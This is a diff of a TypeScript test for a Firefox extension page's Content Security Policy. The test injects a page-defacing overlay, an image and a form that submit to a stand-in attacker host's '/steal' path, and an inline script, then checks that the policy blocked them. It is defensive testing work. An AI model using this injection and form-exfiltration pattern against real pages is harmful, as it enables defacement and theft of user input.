@@ -29,11 +29,11 @@ describe('extension-page CSP in Firefox', () => {
         const style = document.createElement('style');
         style.textContent = 'body { background: rgb(255, 0, 0) !important; font-size: 40px !important } #app { display: none !important }';
         document.head.append(style);
-        document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form action="${host}/steal"><input name="q"></form>`);
+        document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form data-test="evil" action="${host}/steal"><input name="q"></form>`);
         const script = document.createElement('script');
         script.textContent = 'window.__inlineRan = true';
         document.body.append(script);
-        document.querySelector('form')?.requestSubmit();
+        document.querySelector<HTMLFormElement>('form[data-test="evil"]')?.requestSubmit();
         await new Promise((resolve) => setTimeout(resolve, 500));
         return { same: look() === before, inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, directives: [...new Set(directives)].sort() };
       }, EVIL);
